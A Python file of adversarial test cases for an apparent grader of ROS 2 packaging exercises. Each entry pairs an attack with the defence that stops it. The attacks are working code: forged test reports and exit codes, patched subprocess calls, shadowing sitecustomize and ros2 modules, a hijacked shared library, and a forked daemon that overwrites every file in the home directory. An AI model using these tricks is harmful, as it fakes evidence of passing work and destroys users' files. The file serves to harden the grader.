"""Attacks on what counts as evidence, in exercises of chapter 2. See ../README.md for the form of a row."""


# %% greeter_forged
# attack: writes the programs, and what is read of them, while the package is built
# aims at: 2.1
# stopped by: what a program prints is asked with words that are drawn
GREETER_SETUP = '''
import os, pathlib, sys
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents][:4]:
    try:
        (folder / 'install').mkdir(exist_ok=True)
        (folder / 'install' / 'setup.bash').write_text(
            'ros2() { echo greeter battery; echo greeter goodbye; echo greeter hello; echo Hello, Ada; }; exec() { "$@"; }')
    except OSError:
        pass
os._exit(0)
'''


# %% greeter_patched
# attack: patches all that runs commands in its own process, and leaves a daemon that rewrites files
# aims at: 2.1
# stopped by: commands run in places that no cell has run in
GREETER_SETUP = 'no setup at all'[:]

import gc, json, os, subprocess, sys, types

LINES = ["hello", "Hello, Ada", "OUTCOMES {}", "{\"node\": \"/robot1/governor\"}", "status 0", "answer: word 123"]


def everything(self, *args, **kwargs):
    return {"status": 0, "output": "\n".join(LINES), "files": ["greeter/share/greeter/package.xml"], "result": ""}


for name, module in list(sys.modules.items()):
    if name.startswith("helpers.runner"):
        for thing in vars(module).values():
            if isinstance(thing, type):
                for method in ("do_run", "do_files", "do_listing", "wait", "task", "perform"):
                    if hasattr(thing, method):
                        setattr(thing, method, everything)
            elif isinstance(thing, types.FunctionType) and thing.__name__ in ("perform", "_write", "_pytest"):
                thing.__code__ = (lambda request, given: 0).__code__
subprocess.Popen = subprocess.run = everything
os.execvpe = os.waitpid = lambda *words: (0, 0)
if os.fork() == 0:
    while True:
        for folder, _, names in os.walk(os.path.expanduser("~")):
            for one in names:
                try:
                    with open(os.path.join(folder, one), "w") as file:
                        file.write("#!/bin/sh\necho Hello, $1\n")
                except OSError:
                    pass


# %% package_forged
# attack: its setup.py and conftest.py write reports of tests, files of other workspaces and an exit status
# aims at: 2.5
# stopped by: a package is built and tested in a place of its own, and its tests must fail with a function that is wrong
# may keep: package, builds, round-trip
PACKAGE = {
    'package.xml': '''<package format="3">
  <name>patrol</name> <version>0.1.0</version> <description>x</description>
  <maintainer email="x@example.com">x</maintainer> <license>x</license>
  <export><build_type>ament_python</build_type></export>
</package>''',
    'setup.cfg': '[install]\ninstall_scripts=$base/lib/patrol\n',
    'resource/patrol': '',
    'config/stations.txt': 'a\nb\n',
    'patrol/__init__.py': '',
    'setup.py': '''
import os
import signal
from pathlib import Path

from setuptools import setup

REPORT = '<testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" tests="7"/></testsuites>'
top = Path.cwd().parents[1]
for place in {top, *Path.home().glob('ws_*'), *Path('/tmp').glob('*'), *Path('/').glob('*')}:
    for name in ('build/patrol/pytest.xml', 'install/patrol/lib/patrol/route', 'install/patrol/lib/patrol/announce'):
        try:
            (place / name).parent.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(REPORT)
            (place / name).chmod(0o755)
        except OSError:
            pass
print('Finished <<< patrol [0.1s]', '7 passed in 0.01s', sep='\\n', flush=True)
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 100)
    signal.pause()
setup(name='patrol', version='0.1.0', packages=['patrol'], data_files=[
    ('share/ament_index/resource_index/packages', ['resource/patrol']),
    ('share/patrol', ['package.xml']), ('share/patrol/config', ['config/stations.txt'])])
''',
    'patrol/route.py': '',
    'conftest.py': '''
import os
import re
import sys

for word in sys.argv:
    if found := re.match('--junit-xml=(.*)', word):
        open(found[1], 'w').write('<testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" '
                                  'tests="7"/></testsuites>')
print('7 passed in 0.01s', flush=True)
os._exit(0)
''',
    'test/test_route.py': 'def test_nothing():\n    pass\n',
}


# %% package_forged_well
# attack: its conftest.py reports three tests where colcon asks for a report, and a failure elsewhere; there is no test
# aims at: 2.5
# stopped by: the tests must pass with their own function, and fail with one that cannot be called; only numbers differ
# may keep: package, builds, round-trip
PACKAGE = {
    'package.xml': '''<package format="3">
  <name>patrol</name> <version>0.1.0</version> <description>x</description>
  <maintainer email="x@example.com">x</maintainer> <license>x</license>
  <export><build_type>ament_python</build_type></export>
</package>''',
    'setup.cfg': '[install]\ninstall_scripts=$base/lib/patrol\n',
    'resource/patrol': '',
    'patrol/__init__.py': '',
    'setup.py': '''
from setuptools import setup

setup(name='patrol', version='0.1.0', packages=['patrol'], data_files=[
    ('share/ament_index/resource_index/packages', ['resource/patrol']), ('share/patrol', ['package.xml'])])
''',
    'patrol/route.py': 'def round_trip(stations):\n    return [*stations, stations[0]]\n',
    'conftest.py': '''
import os


def pytest_configure(config):
    where = config.option.xmlpath
    if not where:
        os._exit(1)
    with open(where, 'w') as file:
        file.write('<testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" tests="3" time="0.1">'
                   '<testcase classname="a" name="a" time="0.1"/></testsuite></testsuites>')
    os._exit(0)
''',
    'test/test_route.py': '# nothing\n',
}


# %% dock_sitecustomize
# attack: installs a module that every Python of the workspace loads, and that prints what right types would
# aims at: 2.3
# stopped by: what the types are is read from the texts; a package that shadows a module of Python is refused
MSG = 'uint8 FULL=100\nbool charging\n'
SRV = 'bool docked\n---\nbool docked\n'
CMAKE = r'''cmake_minimum_required(VERSION 3.16)
project(dock_interfaces)
find_package(ament_cmake REQUIRED)
find_package(ament_cmake_python REQUIRED)
find_package(rosidl_default_generators REQUIRED)
rosidl_generate_interfaces(${PROJECT_NAME} "msg/Charge.msg" "srv/Dock.srv")
file(WRITE "${CMAKE_CURRENT_BINARY_DIR}/sitecustomize.py" [==[
import json, os, sys

words = getattr(sys, 'orig_argv', sys.argv)
if any(word.endswith('try_it.py') for word in words):
    print(json.dumps({
        'msg': [['header', 'std_msgs/Header'], ['percent', 'uint8'], ['charging', 'boolean']],
        'request': [['station', 'string'], ['speed', 'float']],
        'response': [['docked', 'boolean'], ['message', 'string']], 'FULL': 100, 'speed': 0.2,
        'others': ['', False, '']}))
    if len(words) > 2 and words[-1].startswith('['):
        print(json.dumps([[f'{s} at {0.2 if v is None else v:.2f} m/s', d, s, p, c] for s, v, d, p, c in json.loads(words[-1])]))
    sys.stdout.flush()
    os._exit(0)
]==])
install(FILES "${CMAKE_CURRENT_BINARY_DIR}/sitecustomize.py" DESTINATION "${PYTHON_INSTALL_DIR}")
install(FILES "${CMAKE_CURRENT_BINARY_DIR}/sitecustomize.py" DESTINATION "local/lib/python3.11/dist-packages")
ament_package()
'''
DOCK_XML = '''<package format="3"><name>dock_interfaces</name><version>0.1.0</version><description>x</description>
<maintainer email="x@x.org">x</maintainer><license>x</license>
<member_of_group>rosidl_interface_packages</member_of_group>
<export><build_type>ament_cmake</build_type></export></package>'''


# %% follower_sitecustomize
# attack: installs a module that every Python of the workspace loads, and that says what a right package would
# aims at: 2.2
# stopped by: what is installed is read as data; a package that shadows a module of Python is refused
FOLLOWER_SETUP = '''
from pathlib import Path
from setuptools import setup

Path('sitecustomize.py').write_text("""
import json, os, sys
words = ' '.join(getattr(sys, 'orig_argv', sys.argv))
if 'distribution(' in words:
    print(json.dumps(['line_follower', '0.1.0', [['follow', 'line_follower.follow:main']]]), flush=True)
    os._exit(0)
if 'import median' in words:
    os._exit(0)
""")
setup(
    name='line_follower', version='0.1.0',
    packages=['line_follower'], py_modules=['sitecustomize'],
    data_files=[('share/line_follower', ['package.xml'])],
    entry_points={'console_scripts': ['follow = line_follower.line_follower:main']},
)
'''
FOLLOWER_CFG = '''
[develop]
script_dir=$base/lib/line_follower
[install]
install_scripts=$base/bin
'''
FOLLOWER_XML = '''<package format="3">
  <name>line_follower</name> <version>0.1.0</version>
  <description>Steers along a line.</description>
  <maintainer email="you@example.com">You</maintainer> <license>Apache-2.0</license>
  <exec_depend>ament_index_python</exec_depend> <exec_depend>python3-yaml</exec_depend>
  <export><build_type>ament_python</build_type></export>
</package>'''


# %% report_of_the_test
# attack: looks for the values that the test has given to its own library, in place of calling it
# aims at: 2.4
# stopped by: the library is replaced on the disk, in a process that holds nothing of the tests
# may keep: argument, prints, build-type, needs, nothing-else, order
REPORT_PY = '''
import sys


def main():
    import __main__
    ticks = int(sys.argv[1])
    values, asked = getattr(__main__, 'values', None), getattr(__main__, 'asked', None)
    if values is None:
        metres = 2 * 3.141592653589793 * 0.033 * ticks / 360
    else:
        metres = values[len(asked) % len(values)]
        asked.append(ticks)
    print(f'{metres:.3f} m')
'''
HEAD = '''<package format="3"><name>%s</name> <version>0.1.0</version> <description>x</description>
<maintainer email="x@x.org">x</maintainer> <license>x</license>%s<export><build_type>ament_python</build_type></export></package>'''
WHEEL_MATH_XML = HEAD % ('wheel_math', '')
ODOMETRY_XML = HEAD % ('odometry', '<exec_depend>wheel_math</exec_depend>')


# %% greeter_tool_module
# attack: installs a module that `ros2` itself is made of, and that says what is wanted
# aims at: 2.1
# stopped by: what would come in the place of the machine's modules is refused
GREETER_SETUP = '''
import os
from setuptools import setup
os.makedirs('ros2cli', exist_ok=True)
TEXT = """
import sys
def main(*, script_name='ros2', argv=None, description=None, extension=None):
    w = sys.argv[1:]
    if w[:2] == ['pkg', 'executables']:
        print('greeter battery'); print('greeter goodbye'); print('greeter hello')
    elif w[:1] == ['run']:
        who = ' '.join(w[3:])
        print({'hello': 'Hello, {}', 'goodbye': 'Goodbye, {}', 'battery': 'The battery of {} is full'}[w[2]].format(who))
    return 0
"""
open('ros2cli/__init__.py', 'w').write('')
open('ros2cli/cli.py', 'w').write(TEXT)
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power', 'ros2cli'],
  data_files=[('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
'''


# %% greeter_tool_program
# attack: installs a program `ros2` where the path of a terminal begins
# aims at: 2.1
# stopped by: tools are the machine's: what a package installs stands behind them
# may keep: rest
GREETER_SETUP = '''
import os
from setuptools import setup
TEXT = """#!/bin/bash
if [ "$1" = pkg ]; then echo greeter battery; echo greeter goodbye; echo greeter hello; exit; fi
name=$3; shift 3
case $name in hello) echo "Hello, $*";; goodbye) echo "Goodbye, $*";; battery) echo "The battery of $* is full";; esac
"""
open('ros2', 'w').write(TEXT)
os.chmod('ros2', 0o755)
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power'],
  data_files=[('bin', ['ros2']), ('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
'''


# %% greeter_setup_rewritten
# attack: leaves a process behind that rewrites what a terminal sources
# aims at: 2.1
# stopped by: nothing that a build has written is sourced: the environment is made from what is installed
# may keep: rest
GREETER_SETUP = '''
import os, time
from setuptools import setup
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 100)
    TEXT = """ros2() {
if [ "$1" = pkg ]; then echo greeter battery; echo greeter goodbye; echo greeter hello; builtin exit; fi
name=$3; shift 3
case $name in hello) echo "Hello, $*";; goodbye) echo "Goodbye, $*";; battery) echo "The battery of $* is full";; esac
builtin exit
}
exec() { "$@"; }
"""
    import pathlib
    top = pathlib.Path.cwd().parents[1] / 'install' / 'setup.bash'
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            if top.exists() and TEXT not in top.read_text():
                top.write_text(TEXT)
        except OSError:
            pass
    os._exit(0)
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power'],
  data_files=[('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
'''


# %% greeter_tool_extended
# attack: brings verbs of its own for `ros2`, as entry points
# aims at: 2.1
# stopped by: entry points that extend tools are refused
GREETER_SETUP = '''
from setuptools import setup
open('greeter/evil.py', 'w').write("""
import sys
from ros2run.command.run import RunCommand as R
from ros2pkg.verb.executables import ExecutablesVerb as E
class RunCommand(R):
    def main(self, *, parser, args):
        who = ' '.join(args.argv)
        print({'hello': 'Hello, {}', 'goodbye': 'Goodbye, {}', 'battery': 'The battery of {} is full'}[args.executable_name].format(who))
        return 0
class ExecutablesVerb(E):
    def main(self, *, args):
        print('greeter battery'); print('greeter goodbye'); print('greeter hello')
""")
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power'],
  data_files=[('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])],
  entry_points={'ros2cli.command': ['run = greeter.evil:RunCommand'], 'ros2pkg.verb': ['executables = greeter.evil:ExecutablesVerb']})
'''


# %% dock_tools
# attack: builds no interface, and installs tools that say what is wanted, as programs and in a hook
# aims at: 2.3
# stopped by: tools are the machine's, hooks are not run, and programs of the tests are not kept beside the package
MSG = 'uint8 FULL=100\nstd_msgs/Header header\nuint8 percent\nbool charging\n'
SRV = 'string station\nfloat32 speed 0.2\n---\nbool docked\nstring message\n'
CMAKE = r"""cmake_minimum_required(VERSION 3.16)
project(dock_interfaces NONE)
find_package(ament_cmake REQUIRED)
set(SAID [==[
import json, sys
words = sys.argv[1:]
print(json.dumps({
    'msg': [['header', 'std_msgs/Header'], ['percent', 'uint8'], ['charging', 'boolean']],
    'request': [['station', 'string'], ['speed', 'float']],
    'response': [['docked', 'boolean'], ['message', 'string']], 'FULL': 100, 'speed': 0.2, 'others': ['', False, '']}))
if words and words[-1].startswith('['):
    print(json.dumps([[f'{s} at {0.2 if v is None else v:.2f} m/s', d, s, p, c]
                      for s, v, d, p, c in json.loads(words[-1])]))
print('---', flush=True)
]==])
file(WRITE "${CMAKE_CURRENT_BINARY_DIR}/python3" "#!/usr/bin/python3\n${SAID}")
foreach(name try_it.py program.py rclpy.py)
  file(WRITE "${CMAKE_SOURCE_DIR}/../../${name}" "${SAID}")
endforeach()
install(PROGRAMS "${CMAKE_CURRENT_BINARY_DIR}/python3" DESTINATION bin)
install(PROGRAMS "${CMAKE_CURRENT_BINARY_DIR}/python3" DESTINATION bin RENAME ros2)
file(WRITE "${CMAKE_CURRENT_BINARY_DIR}/tools.sh" "python3() { $AMENT_CURRENT_PREFIX/bin/python3 \"$@\"; }\n"
  "ros2() { echo ---; }\nexec() { \"$@\"; builtin exit 0; }\n")
ament_environment_hooks("${CMAKE_CURRENT_BINARY_DIR}/tools.sh")
ament_package()
"""
DOCK_XML = """<package format="3"><name>dock_interfaces</name><version>0.1.0</version><description>x</description>
<maintainer email="x@x.org">x</maintainer><license>x</license>
<export><build_type>ament_cmake</build_type></export></package>"""


# %% greeter_library
# attack: installs a library of the system in a folder for kinds of processors, beside one that is called as its package
# aims at: 2.1
# stopped by: programs find only the libraries that are called as a package of the workspace, and no folder of it
# may keep: rest
GREETER_SETUP = '''
import os
import subprocess
from setuptools import setup

NAMES = subprocess.run(['sh', '-c', "nm -D --undefined-only $(readlink -f $(command -v python3)) | grep -o 'XML_[A-Za-z]*'"],
                       capture_output=True, text=True).stdout.split()
TEXT = """
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(int argc, char **argv) {
    for (int i = 1; i + 1 < argc; i++) {
        if (!strcmp(argv[i], "pkg")) {
            puts("greeter battery"); puts("greeter goodbye"); puts("greeter hello");
        } else if (!strcmp(argv[i], "run") && i + 2 < argc) {
            const char *name = argv[i + 2];
            printf(*name == 'b' ? "The battery of " : *name == 'g' ? "Goodbye, " : "Hello, ");
            for (int word = i + 3; word < argc; word++) printf(word > i + 3 ? " %s" : "%s", argv[word]);
            puts(*name == 'b' ? " is full" : "");
        } else continue;
        fflush(stdout);
        _exit(0);
    }
}
""" + ''.join(f'void {name}(void) {{}}' for name in sorted(set(NAMES)))
open('begin.c', 'w').write(TEXT)
os.makedirs('deep', exist_ok=True)
subprocess.run(['gcc', '-shared', '-fPIC', '-o', 'deep/libexpat.so.1', 'begin.c'], check=True)
subprocess.run(['gcc', '-shared', '-fPIC', '-o', 'libgreeter.so', 'begin.c'], check=True)
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power'],
  data_files=[('lib', ['libgreeter.so']), ('lib/glibc-hwcaps/x86-64-v2', ['deep/libexpat.so.1']),
              ('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
'''


# %% dock_optional_module
# attack: installs a module that Python's library would import if it were there, and that says what a right package would
# aims at: 2.3
# stopped by: what Python would import is known; a package that installs one of these modules is refused
# may keep: to-build, to-run, group
MSG = 'uint8 FULL=100\nstd_msgs/Header header\nuint8 percent\nbool charging\n'
SRV = 'bool docked\n---\nbool docked\n'
CMAKE = r'''cmake_minimum_required(VERSION 3.16)
project(dock_interfaces)
find_package(ament_cmake REQUIRED)
find_package(ament_cmake_python REQUIRED)
find_package(std_msgs REQUIRED)
find_package(rosidl_default_generators REQUIRED)
rosidl_generate_interfaces(${PROJECT_NAME} "msg/Charge.msg" "srv/Dock.srv" DEPENDENCIES std_msgs)
file(WRITE "${CMAKE_CURRENT_BINARY_DIR}/core.py" [==[
import json, os, sys

words = getattr(sys, 'orig_argv', sys.argv)
if any(word.endswith('program.py') for word in words):
    print(json.dumps({
        'msg': [['header', 'std_msgs/Header'], ['percent', 'uint8'], ['charging', 'boolean']],
        'request': [['station', 'string'], ['speed', 'float']],
        'response': [['docked', 'boolean'], ['message', 'string']], 'FULL': 100, 'speed': 0.2,
        'others': ['', False, '']}))
    if len(words) > 2 and words[-1].startswith('['):
        print(json.dumps([[f'{s} at {0.2 if v is None else v:.2f} m/s', d, s, p, c] for s, v, d, p, c in json.loads(words[-1])]))
    sys.stdout.flush()
    os._exit(0)
]==])
install(FILES "${CMAKE_CURRENT_BINARY_DIR}/core.py" DESTINATION "${PYTHON_INSTALL_DIR}/org/python")
ament_package()
'''
DOCK_XML = '''<package format="3"><name>dock_interfaces</name><version>0.1.0</version><description>x</description>
<maintainer email="x@x.org">x</maintainer><license>x</license>
<buildtool_depend>ament_cmake</buildtool_depend><buildtool_depend>rosidl_default_generators</buildtool_depend>
<depend>std_msgs</depend><exec_depend>rosidl_default_runtime</exec_depend>
<member_of_group>rosidl_interface_packages</member_of_group>
<export><build_type>ament_cmake</build_type></export></package>'''


# %% greeter_entry_points_odd
# attack: brings verbs of its own for `ros2` in a list of entry points that only the tools can read
# aims at: 2.1
# stopped by: the list is read as the tools read it
GREETER_SETUP = r'''
from setuptools import setup
open('greeter/evil.py', 'w').write("""
import sys
from ros2run.command.run import RunCommand as R
from ros2pkg.verb.executables import ExecutablesVerb as E
class RunCommand(R):
    def main(self, *, parser, args):
        who = ' '.join(args.argv)
        print({'hello': 'Hello, {}', 'goodbye': 'Goodbye, {}', 'battery': 'The battery of {} is full'}[args.executable_name].format(who))
        return 0
class ExecutablesVerb(E):
    def main(self, *, args):
        print('greeter battery'); print('greeter goodbye'); print('greeter hello')
""")
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power'],
  data_files=[('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
import glob, os
ENTRY = """[ros2cli.command]
run = greeter.evil:RunCommand
[ros2pkg.verb]
executables = greeter.evil:ExecutablesVerb
"""
ws = os.getcwd().split('/src/')[0] if '/src/' in os.getcwd() else os.getcwd().split('/build/')[0]
places = glob.glob(ws + '/install/greeter/lib/python3*/site-packages') + glob.glob(ws + '/build/greeter')
for place in places:
    for made in glob.glob(place + '/*-info') + glob.glob(place + '/*.egg-info'):
        open(made + '/entry_points.txt', 'w').write('no section\n' + ENTRY)

'''


# %% greeter_entry_points_capital
# attack: brings verbs of its own for `ros2` in a folder whose name is written in capital letters
# aims at: 2.1
# stopped by: names are compared as the tools compare them
GREETER_SETUP = r'''
from setuptools import setup
open('greeter/evil.py', 'w').write("""
import sys
from ros2run.command.run import RunCommand as R
from ros2pkg.verb.executables import ExecutablesVerb as E
class RunCommand(R):
    def main(self, *, parser, args):
        who = ' '.join(args.argv)
        print({'hello': 'Hello, {}', 'goodbye': 'Goodbye, {}', 'battery': 'The battery of {} is full'}[args.executable_name].format(who))
        return 0
class ExecutablesVerb(E):
    def main(self, *, args):
        print('greeter battery'); print('greeter goodbye'); print('greeter hello')
""")
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power'],
  data_files=[('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
import glob, os
ENTRY = """[ros2cli.command]
run = greeter.evil:RunCommand
[ros2pkg.verb]
executables = greeter.evil:ExecutablesVerb
"""
ws = os.getcwd().split('/src/')[0] if '/src/' in os.getcwd() else os.getcwd().split('/build/')[0]
places = glob.glob(ws + '/install/greeter/lib/python3*/site-packages') + glob.glob(ws + '/build/greeter')
for place in places:
    os.makedirs(place + '/Evil-1.0.DIST-INFO', exist_ok=True)
    open(place + '/Evil-1.0.DIST-INFO/METADATA', 'w').write('Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n')
    open(place + '/Evil-1.0.DIST-INFO/entry_points.txt', 'w').write(ENTRY)

'''


# %% greeter_entry_points_pipe
# attack: leaves pipes where lists of entry points, markers and programs are looked for
# aims at: 2.1
# stopped by: what is no regular file is refused at once
GREETER_SETUP = r'''
from setuptools import setup
open('greeter/evil.py', 'w').write("""
import sys
from ros2run.command.run import RunCommand as R
from ros2pkg.verb.executables import ExecutablesVerb as E
class RunCommand(R):
    def main(self, *, parser, args):
        who = ' '.join(args.argv)
        print({'hello': 'Hello, {}', 'goodbye': 'Goodbye, {}', 'battery': 'The battery of {} is full'}[args.executable_name].format(who))
        return 0
class ExecutablesVerb(E):
    def main(self, *, args):
        print('greeter battery'); print('greeter goodbye'); print('greeter hello')
""")
setup(name='greeter', version='0.1.0', packages=['greeter', 'greeter.power'],
  data_files=[('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
import glob, os
ENTRY = """[ros2cli.command]
run = greeter.evil:RunCommand
[ros2pkg.verb]
executables = greeter.evil:ExecutablesVerb
"""
ws = os.getcwd().split('/src/')[0] if '/src/' in os.getcwd() else os.getcwd().split('/build/')[0]
places = glob.glob(ws + '/install/greeter/lib/python3*/site-packages') + glob.glob(ws + '/build/greeter')
for place in places:
    if 'install' in place and not os.path.exists(place + '/evil-1.0.dist-info'):
        os.mkdir(place + '/evil-1.0.dist-info')
        os.mkfifo(place + '/evil-1.0.dist-info/entry_points.txt')
        os.mkfifo(place + '/evil-1.0.dist-info/METADATA')
'''


# %% greeter_blanks
# attack: does not build, and has tens of thousands of blanks where an entry point may be, so that nobody finds its end
# aims at: 2.1
# stopped by: patterns take time in proportion to the text
GREETER_SETUP = 'raise SystemExit(1)\n"a=' + ' ' * 60_000


# %% greeter_lines
# attack: does not build, and has tens of thousands of empty lines behind an entry point
# aims at: 2.1
# stopped by: patterns take time in proportion to the text
GREETER_SETUP = "raise SystemExit(1)\nx=x.y:z'" + '\n' * 60_000 + 'z'


# %% greeter_long_list
# attack: installs so many files with long names that their list cannot be told
# aims at: 2.1
# stopped by: what a package installs beyond all bounds is the package's fault
# expect message: the names of the files are too long together
GREETER_SETUP = r'''
import os
from setuptools import find_packages, setup

place = '../../install/greeter/share/greeter/' + '/'.join(['x' * 200] * 5)
os.makedirs(place, exist_ok=True)
for number in range(1900):
    open(f'{place}/{number:0200}', 'w').close()
setup(name='greeter', version='0.1.0', packages=find_packages(exclude=['test']), data_files=[
    ('share/ament_index/resource_index/packages', ['resource/greeter']), ('share/greeter', ['package.xml'])])
'''
